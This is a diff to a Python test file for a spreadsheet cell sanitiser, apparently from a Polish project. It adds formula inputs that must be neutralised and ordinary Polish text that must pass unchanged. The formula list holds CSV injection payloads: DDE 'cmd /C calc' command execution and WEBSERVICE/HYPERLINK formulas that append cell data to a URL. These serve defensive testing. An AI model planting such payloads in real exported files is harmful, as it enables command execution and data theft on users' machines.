@@ -41,7 +41,29 @@ def test_only_formulas_get_an_apostrophe(rows, size, delimiter):
             assert (shown != inside) == (text.safe_cell(cell)[:1] == "'" and cell[:1] != "'")
 
 
-FORMULAS = ["=1+1", '"=1+1', " =HYPERLINK(A1)", "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+SUM(A1)"]
+FORMULAS = [
+    "=1+1",
+    '"=1+1',
+    " =HYPERLINK(A1)",
+    "+cmd|' /C calc'!A0",
+    "+cmd|'/C calc;x,y'!A0",
+    "-cmd|a!b",
+    "@SUM(A1)",
+    "-1+SUM(A1)",
+    "- SUM( $A$1 )",
+    "-sum(a1:b2)*2",
+    "+SUM(A:A)",
+    "+SUM(1+1)",
+    "-RAND()",
+    "-LOG10(A1)",
+    '+HYPERLINK("http://example.org/(?"&A1)',
+    "+WEBSERVICE(CHAR(104)&A1)",
+    "+HYPERLINK(adres&A1)",
+    '+IF(TRUE-FALSE;WEBSERVICE("http://example.org"&A1))',
+    "+IF((TRUE),WEBSERVICE(A1))",
+    "+Arkusz2!A1",
+    "-Arkusz2!$A$1",
+]
 
 
 def split(line, delimiter):
@@ -68,6 +90,14 @@ HONEST = [
     ";-) i ;-(",
     "a; = ;b",
     "kontakt@leszno.pl,@leszno",
+    "Kadra:\n- opiekun(ka) świetlicy",
+    "Kadra:\n- opiekun(ka)\n- uczestnik(czka)\n-Pan(i)\n- spółka(i)",
+    "- lider\n- opiekun(-ka), trener(ka/zy)",
+    "65 529 81 00, +48(65)5298101",
+    "Godziny:\n- pn 8–16 | wt 10–18",
+    "Godziny:\n- pn 8–16 | wt 10–18 – zapraszamy!",
+    "Terminy:\n- Uwaga!zapisy",
+    "Zajęcia:\n- dzieci (7-12)\n- seniorzy(60+ lat)",
 ]
 
 
